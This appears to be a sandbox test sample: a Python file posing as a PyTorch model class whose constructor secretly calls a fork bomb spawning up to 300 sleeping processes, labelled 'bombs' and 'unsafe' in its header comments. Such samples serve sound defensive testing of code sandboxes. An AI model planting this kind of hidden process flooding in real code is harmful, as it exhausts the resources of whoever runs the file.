# group: bombs
# tries: forks hundreds of sleeping processes, as many as it is given
# static: unsafe
# sandbox: trained

import os
import time

import torch.nn as nn


def bomb(most=300):
    for _ in range(most):
        try:
            child = os.fork()
        except OSError:
            return
        if child == 0:
            time.sleep(30)
            os._exit(0)
        print("BREACH fork")


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        bomb()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
